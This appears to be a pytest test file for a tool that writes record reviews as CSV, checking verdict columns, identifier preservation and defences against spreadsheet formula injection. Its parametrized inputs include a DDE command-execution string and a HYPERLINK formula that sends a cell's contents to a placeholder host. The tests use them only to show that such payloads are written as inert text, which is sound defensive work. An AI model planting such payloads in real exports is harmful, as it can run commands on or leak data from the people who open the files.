"""A review as CSV: what a spreadsheet program shows is what was written, and runs nothing."""

import csv
import io
import json
import re

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from linkage_rules.model.types import Field, RecordType, Scalar
from linkage_rules.records import read_records
from linkage_rules.reviews.outputs.csv_file import harmless, kept

AS_OF = ("--as-of", "2023-05-01")
DANGEROUS = "=+-@＝＋－＠"


@pytest.fixture
def rows(run, library_entry, tmp_path):
    """The rows of a review, by heading; its records are those of the small policy or others."""

    def reviewed(records=None):
        source = library_entry / "projects.json"
        if records is not None:
            source = tmp_path / "records.json"
            source.write_text(json.dumps(records), "utf-8")
        out = tmp_path / "review.csv"
        assert run("review", "policy.pol", source, *AS_OF, "--out", out).exit_code in (0, 2)
        return list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline="")))

    return reviewed


def test_every_record_has_a_row_with_verdicts_reasons_and_what_is_missing(rows):
    first, forbidden, unreadable, conflicting, pending = rows()
    assert (first["编号"], first["审核结论"], first["入库"]) == ("A-1", "符合要求", "已经发生")
    assert forbidden["审核结论"] == "有不得办理事项"
    assert "1. 不得入库：无方案不得入库（《办法》第一部分）" in forbidden["禁止或冲突的理由和依据"]
    assert forbidden["须整改的事项"] == "经营主体应当报告，未做到（《办法》第二部分）"
    assert (unreadable["审核结论"], unreadable["编号"]) == ("无法读取", "A-3")
    assert "不是整数分" in unreadable["禁止或冲突的理由和依据"]
    assert conflicting["入库"] == "有冲突"
    assert "已违规" not in conflicting["禁止或冲突的理由和依据"]
    assert pending["须补充的信息"].startswith("决定能否办理：是否有方案、是否应急\n")


def test_a_cell_in_doubt_is_told_in_one_line_with_its_field(run, library_entry, tmp_path):
    (tmp_path / "a.csv").write_text("编号,名称,有方案\nA-1,水渠,待定\n", "utf-8")
    run("review", "policy.pol", tmp_path / "a.csv", *AS_OF, "--out", tmp_path / "b.csv")
    text = (tmp_path / "b.csv").read_text("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    told = '第2行C列“有方案”（有方案）：既不是“是”，也不是“否”："待定"'
    assert row["存疑的单元格"] == told


def test_a_formula_that_was_never_computed_is_told_without_a_value(run, library_entry, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["编号", "名称", "有方案"])
    book.active.append(["A-1", "水渠", "=A1"])
    book.save(tmp_path / "a.xlsx")
    run("review", "policy.pol", tmp_path / "a.xlsx", *AS_OF, "--out", tmp_path / "b.csv")
    text = (tmp_path / "b.csv").read_text("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["存疑的单元格"].endswith("（有方案）：公式的计算结果没有保存在文件中")


def test_excel_takes_the_file_for_utf_8(run, library_entry, tmp_path):
    run("review", "policy.pol", "projects.json", *AS_OF, "--out", tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "\t=1+1", "\r=1+1", "  =1+1",
        '=HYPERLINK("http://example.invalid/?"&A1,"点我")', "\u00a0=1", "\u3000=1",
    ],
)  # fmt: skip
def test_a_name_that_starts_a_formula_is_text_in_the_file(rows, name):
    (row,) = rows([{"id": name, "name": name}])
    for cell in (row["编号"], row["名称"]):
        assert cell.startswith("'")
        assert cell.lstrip("'")[:1] not in "\t\r"


@given(st.text())
def test_no_text_at_all_starts_a_formula_or_breaks_out_of_its_cell(text):
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow([harmless(text), "next"])
    (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert row == [harmless(text), "next"]
    assert not row[0].lstrip().startswith(tuple(DANGEROUS))
    assert not set(row[0]) & {"\t", "\r", "\0", "\x1b"}


@given(st.text(st.characters(categories=["Lo", "Nd"])))
def test_an_ordinary_text_is_written_as_it_is(text):
    assert harmless(text) == text


IDENTIFIERS = (
    *("000012", "430321198001011234", "1-2", "3/4", "1.10", "1E5", "1月2日", "2023年5月", "2-Jan"),
    *("12:30", "０１２", "123456789012"),
)


@pytest.mark.parametrize("identifier", IDENTIFIERS)
def test_identifiers_survive_opening_in_a_spreadsheet_program_and_come_back(
    rows, identifier, tmp_path
):
    (row,) = rows([{"id": identifier, "name": "水渠"}])
    assert row["编号"] == f'="{identifier}"'
    labels = {"id": "编号", "name": "名称", "place": "位置", "conclusion": "审核结论"}
    fields = (Field(name, label, Scalar.TEXT) for name, label in labels.items())
    shape = RecordType("P", None, tuple(fields))
    (entry,) = read_records(tmp_path / "review.csv", shape)
    assert entry.data["id"] == identifier


@pytest.mark.parametrize("identifier", ["A-1", "12", "430321", "43032119800101123X", "1.5", "丙-3"])
def test_other_identifiers_stand_as_they_are(rows, identifier):
    (row,) = rows([{"id": identifier, "name": "水渠"}])
    assert row["编号"] == identifier


@given(st.text(alphabet="0123456789-/.:eE年月日=\"'+,; \n１２ABCJANjan", max_size=12))
def test_a_formula_holds_nothing_but_digits_and_the_marks_between_them(text):
    written = kept(text)
    if written.startswith("="):
        inside = written.removeprefix('="').removesuffix('"')
        assert written == f'="{inside}"'
        assert re.fullmatch(r"[0-9０-９a-zA-Z./:年月日-]+", inside)
    else:
        assert written == harmless(text)
